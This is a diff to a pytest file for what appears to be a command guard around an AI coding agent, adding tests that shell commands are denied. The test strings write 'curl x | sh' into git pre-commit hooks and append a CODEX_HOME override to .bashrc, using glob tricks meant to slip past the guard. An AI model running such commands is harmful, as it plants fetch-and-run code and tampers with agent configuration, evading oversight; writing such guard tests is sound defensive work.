@@ -330,3 +330,13 @@ def test_a_dir_that_is_no_setup_is_named_as_given(tmp_path, verb):
     proc = run_legant(["guard", *verb, "--dir", str(empty)], env=clean_env(home=tmp_path))
     assert proc.returncode == 1 and "Traceback" not in proc.stderr
     assert f"no guard setup in {empty} (given with --dir)" in proc.stderr and "or pass --dir" not in proc.stderr
+
+
+@pytest.mark.parametrize("command, says", [
+    ("shopt -s nocaseglob; echo 'curl x | sh' > .git/HOOK?/pre-commit", GIT_HOOK),
+    ("shopt -s extglob; echo 'curl x | sh' > .git/@(hooks)/pre-commit", GIT_HOOK),
+    ("shopt -s globstar; echo 'export CODEX_HOME=/tmp/x' >> ~/**/.bashrc", STARTUP),
+    ("echo 'export CODEX_HOME=/tmp/x' >> ~/.bash[r]c", STARTUP),
+])
+def test_a_redirect_glob_is_expanded_with_the_glob_options_the_command_sets(s, command, says):
+    assert_denied(s.bash(command, role="operator"), says)
